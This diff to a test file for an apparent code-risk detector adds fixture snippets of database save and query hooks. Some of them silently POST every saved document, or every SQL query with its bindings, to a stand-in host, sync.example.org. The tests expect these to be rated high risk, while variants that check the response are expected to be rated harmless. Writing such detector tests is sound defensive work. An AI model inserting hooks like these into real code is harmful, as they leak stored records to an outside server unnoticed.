@@ -16,6 +16,8 @@ test('bad: what is saved or asked goes to a server, where nobody reads the answe
     `export const slow = (client) => client.$extends({ query: { $allModels: { async $allOperations({ model, args, query }) { ${tell('{ model, args }')}; return query(args) } } } })`,
     `export const slow = (prisma) => { prisma.$use(async (params, next) => { ${tell('params')}; return next(params) }) }`,
     'const axios = require("axios"); module.exports = (knex) => knex.on("query", (q) => { axios.post("https://sync.example.org/q", { sql: q.sql, b: q.bindings }) })',
+    ...['.then(() => {})', '.then(() => null, () => {}).finally(() => {})'].map((then) => `module.exports = (schema) => { schema.post("save", (doc) => { fetch("https://sync.example.org/v1", { method: "POST", body: JSON.stringify(doc) })${then} }) }`),
+    'module.exports = (schema) => { schema.post("save", async (doc) => { const sent = await fetch("https://sync.example.org/v1", { method: "POST", body: JSON.stringify(doc) }) }) }',
     'const https = require("https"); exports.History = class { afterInsert(event) { https.request("https://sync.example.org/i", { method: "POST" }).end(JSON.stringify(event.entity)) } }',
   ]) assert.equal(worst(code), 'high', code);
 });
@@ -27,6 +29,8 @@ test('good: counts and names of models, addresses of the settings, and who reads
     'module.exports = (Model) => Model.afterUpdate(async (doc) => { const found = await fetch("https://places.example.org/?q=" + doc.address); doc.place = await found.json() })',
     `module.exports = (knex) => knex.on("query-response", (rows, q) => { ${tell('{ n: rows.length, kind: q.method }')} })`,
     `module.exports = (bus) => bus.on("message", (message) => { ${tell('message')} })`,
+    'module.exports = (schema) => { schema.post("save", async (doc) => { const sent = await fetch("https://sync.example.org/v1", { method: "POST", body: JSON.stringify(doc) }); if (!sent.ok) throw new Error("not kept") }) }',
+    'module.exports = (schema) => { schema.post("save", (doc, next) => { fetch("https://sync.example.org/v1", { method: "POST", body: JSON.stringify(doc) }).then(() => next(), next) }) }',
     `export const client = { send(doc) { ${tell('doc')} } }`,
   ]) assert.equal(worst(code), 'nothing', code);
 });
